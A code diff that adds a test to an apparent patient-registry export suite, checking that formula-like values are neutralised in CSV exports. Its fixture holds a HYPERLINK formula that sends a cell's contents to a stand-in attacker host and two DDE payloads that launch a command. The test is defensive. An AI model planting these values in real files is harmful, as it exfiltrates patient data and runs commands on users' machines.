@@ -292,3 +292,30 @@ def test_a_run_that_fails_midway_leaves_no_file_and_no_audit_of_patients(
     assert export.state == ExportState.APPROVED
     assert list(services.staging_dir().iterdir()) == []
     assert not AccessEvent.objects.filter(action="export").exists()
+
+
+# --- item 10: no cell of an export runs as a formula in a spreadsheet --------------------
+
+FORMULAS = {"address": '=HYPERLINK("https://evil.example/?"&A2,"Plan d\'accès")',
+            "notes": "-2+3+cmd|' /C calc'!A0",
+            "insurer": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def test_formula_values_are_neutralised_in_the_csv(lab_a, patients, keys):
+    """A patient registered with formula-like values (the registry accepts free text):
+    opened in a spreadsheet, the export must show them as text, not run them."""
+    create_patient(Actor("sam", lab_a.id, "secretary", "web"),
+                   patient_row(nir=make_nir("F", 1990, 7), birth_name="Formule",
+                               birth_date="1990-07-01", **FORMULAS))
+    export = produced(lab_a, keys[1], fields="birth_name,address,notes,insurer,phone")
+    rows = list(csv.reader(io.StringIO(decrypted(export, keys[0]))))
+    (mine,) = [r for r in rows if r[0] == "Formule"]
+    assert mine[1:4] == ["'" + FORMULAS["address"], "'" + FORMULAS["notes"],
+                         "'" + FORMULAS["insurer"]]
+    assert mine[4].startswith("+33")  # a phone in E.164 is a number, left as it is
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "@", "\t", "\r")), cell
+            assert not cell.startswith(("+", "-")) or re.fullmatch(r"[+-]\d+", cell), cell
+    # The watermark rows still name the export once neutralised cells are read back.
+    assert services.attribute(decrypted(export, keys[0])) == export.pk
